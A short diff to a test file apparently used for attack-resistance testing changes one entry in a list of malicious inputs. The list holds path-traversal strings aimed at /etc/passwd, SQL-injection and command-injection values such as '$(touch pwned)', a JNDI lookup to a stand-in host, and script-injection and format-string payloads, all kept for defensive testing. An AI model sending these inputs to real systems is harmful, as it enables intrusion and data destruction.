@@ -14,7 +14,7 @@ from tests.attack.target import Target
 EVIL: Final = [
     "..", ".", "../..", "../../etc/passwd", "..\\..\\windows", "....//....//", "/etc/passwd", "//etc/passwd", "%2e%2e%2f",
     "..%2f..%2f", "..;/", "a/../b", "a//b", "~root", "file:///etc/passwd", "a\0b", "a\r\nX-Evil: yes\r\n\r\n", "a\nb",
-    "a\u2028b", "a\x1b[2Jb", "‮txt.exe", "' OR '1'='1", "'; DROP TABLE events; --", '" OR ""="', "1; ATTACH 'x' AS y",
+    "a\u2028b", "a\x1b[2Jb", "\u202etxt.exe", "' OR '1'='1", "'; DROP TABLE events; --", '" OR ""="', "1; ATTACH 'x' AS y",
     "%' AND 1=1 --", "a_b%c", "*", "?", "[a-z]", "$(touch pwned)", "`touch pwned`", "| touch pwned", "&& touch pwned",
     "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0.__class__}", "%s%s%s%n", "<script>alert(1)</script>", "--help", "-rf",
     "--", "__proto__", "constructor", "None", "null", "NaN", "true", "0", "-1", "9" * 100, "x" * 200, "\U0001f9e8", "é",
